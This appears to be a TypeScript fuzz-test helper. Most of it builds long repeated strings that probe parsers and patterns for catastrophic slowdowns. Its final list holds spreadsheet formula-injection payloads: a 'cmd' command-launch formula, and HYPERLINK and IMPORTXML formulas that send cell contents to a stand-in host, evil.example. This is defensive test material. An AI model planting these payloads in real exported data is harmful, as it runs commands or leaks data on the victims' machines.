/** Units that slow patterns, parsers and normalisation down when repeated. */
const UNITS = [
  'a',
  'a@',
  ' ',
  ',',
  '(',
  '[',
  '> ',
  '<',
  '\n',
  '\t',
  'a.',
  '"',
  '-',
  "'",
  '*_',
  '`',
  '#',
  '|a',
  '\\',
  '&amp;',
  '%41',
  '{{',
  '0',
  '/',
  'x://',
  ':',
  ';',
  'Σ',
  '\u200b',
  '[](',
  '![a',
  '1,',
  '=1+',
  '\u{1f600}',
  'BEGIN:VEVENT\n',
  '<a b="',
  '- ',
  'a\u0301',
] as const

export type Shape = { name: string; of: (length: number) => string }

const repeated = (unit: string, length: number) =>
  unit
    .repeat(Math.ceil(length / unit.length))
    .slice(0, length)
    .replace(/[\ud800-\udbff]$/, 'x')

/** The two that once blocked the product; every field gets them. */
const ALWAYS: readonly Shape[] = [
  {
    name: 'marks out of order',
    of: (length) => `a${'\u0301'.repeat(length / 2)}${'\u0323'.repeat(length / 2)}`.slice(0, length),
  },
  {
    name: 'an address without an end',
    of: (length) => `x@${repeated('a.', Math.max(0, length - 3))}@`.slice(0, length),
  },
]

const OTHERS: readonly Shape[] = [
  ...UNITS.map((unit) => ({ name: JSON.stringify(unit), of: (length: number) => repeated(unit, length) })),
  ...UNITS.map((unit) => ({
    name: `${JSON.stringify(unit)} and an end`,
    of: (length: number) => `x${repeated(unit, Math.max(0, length - 2))}!`,
  })),
  { name: 'marks of a host', of: (length) => `https://a${repeated('\u0301\u0323', length)}.org`.slice(0, length) },
]

/** The number of shapes, each of any length. */
export const MOST_SHAPES = ALWAYS.length + OTHERS.length

/**
 * The shapes for a field: those that every field gets, and `more` others, which differ from field to field: one unit
 * repeated, or the same with an ending that does not match.
 */
export const shapesFor = (field: number, more: number): Shape[] => [
  ...ALWAYS,
  ...Array.from({ length: Math.min(more, OTHERS.length) }, (_, nth) => OTHERS[(field * more + nth) % OTHERS.length]!),
]

/**
 * A few shapes for a field, which differ from field to field; every other one is from those that every field gets with
 * PROOF=1.
 */
export const fewShapesFor = (field: number, shapes: number): Shape[] =>
  Array.from({ length: shapes }, (_, nth) => {
    const at = field * shapes + nth
    const list = at % 2 ? OTHERS : ALWAYS
    return list[Math.floor(at / 2) % list.length]!
  })

/**
 * Texts that spreadsheets run as formulas: each opening sign, disguised, with commands, links and look-alikes. Sixty in
 * all.
 */
export const FORMULAS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\t=', '"=', "'="].flatMap((sign) => [
  `${sign}1+1`,
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("https://evil.example?x="&A1,"Click")`,
  `${sign}IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`,
  `${sign}SUM(1,2)\r\n=2+2`,
])
